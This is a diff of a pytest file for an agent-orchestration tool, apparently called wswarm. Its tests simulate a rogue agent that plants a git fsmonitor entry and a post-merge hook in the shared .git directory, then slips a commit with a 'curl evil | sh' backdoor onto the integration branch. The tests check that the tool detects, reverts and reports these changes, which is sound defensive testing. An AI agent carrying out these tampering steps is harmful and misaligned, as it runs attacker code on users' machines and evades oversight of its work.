@@ -45,21 +45,67 @@ def test_hooks_an_agent_writes_under_a_relative_hooks_path_never_run(repo: Repo,
     assert repo.show(repo.branches("wswarm/*/integration")[0], "app/core.py") == "VALUE = 2"
 
 
-def test_an_fsmonitor_planted_in_the_shared_config_is_never_run_by_wswarm(repo: Repo, tmp_path: Path,
-                                                                          agent_script: Any) -> None:
-    marker = tmp_path / "fsmonitor-ran.txt"
+def test_code_planted_in_the_shared_git_dir_is_never_run_and_is_put_back(repo: Repo, tmp_path: Path,
+                                                                        agent_script: Any) -> None:
+    # A command agent (not confined) writes core.fsmonitor into the common config and a hook into the
+    # shared hooks folder: wswarm's own git calls (in the user's checkout too) would run them.
+    marker = tmp_path / "planted-ran.txt"
     evil = tmp_path / "evil.sh"
     marker_script(evil, marker)
     common = repo.path / ".git"
+    config_before = (common / "config").read_bytes()
     cmd = agent_script(f"""
         import subprocess
-        subprocess.run(["git", "config", "--file", {str(common / "config")!r}, "core.fsmonitor", {str(evil)!r}],
-                       check=True)
+        if os.environ["WSWARM_ATTEMPT"] == "1":
+            subprocess.run(["git", "config", "--file", {str(common / "config")!r}, "core.fsmonitor", {str(evil)!r}],
+                           check=True)
+            hook = Path({str(common / "hooks" / "post-merge")!r})
+            hook.write_text("#!/bin/sh\\necho hook >> {marker}\\n")
+            hook.chmod(0o755)
         Path("app/core.py").write_text("VALUE = 2\\n")
     """)
     res = start(repo, tmp_path, cmd)
+    assert res.returncode == 0, res.stdout + res.stderr
     assert not marker.exists(), marker.read_text()
-    assert res.returncode in (0, 1), res.stderr
+    assert (common / "config").read_bytes() == config_before
+    assert not (common / "hooks" / "post-merge").exists()
+    kept = sorted(p.name for p in (repo.state_dir / "tampered").rglob("*") if p.is_file())
+    assert kept == ["config", "hooks%2Fpost-merge"]
+    [task] = wswarm(repo.path, "status", "--json").json()["tasks"]
+    assert (task["status"], task["attempts"]) == ("merged", 2)
+    run_dir = next((repo.state_dir / "runs").iterdir())
+    events = [json.loads(line) for line in (run_dir / "events.jsonl").read_text().splitlines()]
+    [changed] = [e for e in events if e["kind"] == "shared-state-changed"]
+    assert ".git/config was changed" in changed["detail"] and ".git/hooks/post-merge was added" in changed["detail"]
+    assert changed["agents_running"] == ["t#1"]
+    body = (run_dir / "pr.md").read_text()
+    assert "## Warnings" in body and ".git/config was changed" in body
+
+
+def test_a_commit_slipped_onto_the_integration_branch_stops_the_run(repo: Repo, tmp_path: Path,
+                                                                  agent_script: Any) -> None:
+    cmd = agent_script("""
+        import subprocess
+        branch = f"refs/heads/wswarm/{os.environ['WSWARM_RUN_ID']}/integration"
+        Path("backdoor.sh").write_text("curl evil | sh\\n")
+        subprocess.run(["git", "add", "backdoor.sh"], check=True)
+        subprocess.run(["git", "commit", "-qm", "innocent"], check=True)
+        head = subprocess.run(["git", "rev-parse", "HEAD"], check=True, capture_output=True, text=True).stdout.strip()
+        subprocess.run(["git", "update-ref", branch, head], check=True)
+        subprocess.run(["git", "reset", "-q", "--hard", "HEAD~1"], check=True)
+        Path("app/core.py").write_text("VALUE = 2\\n")
+    """)
+    res = start(repo, tmp_path, cmd)
+    assert res.returncode == 1, res.stdout + res.stderr
+    assert "was moved by something other than wswarm" in res.stderr
+    [branch] = repo.branches("wswarm/*/integration")
+    run_dir = next((repo.state_dir / "runs").iterdir())
+    body = (run_dir / "pr.md").read_text()
+    found = repo.git("rev-parse", branch)
+    assert "## Warnings" in body and found[:12] in body
+    # Nothing was merged on top of it, and the run's record still says where the branch belongs.
+    assert repo.git("rev-list", "--count", "--merges", branch) == "0"
+    assert wswarm(repo.path, "status", "--json").json()["state"] == "interrupted"
 
 
 def test_attributes_in_the_change_cannot_hide_a_secret_from_the_gate(repo: Repo, tmp_path: Path,
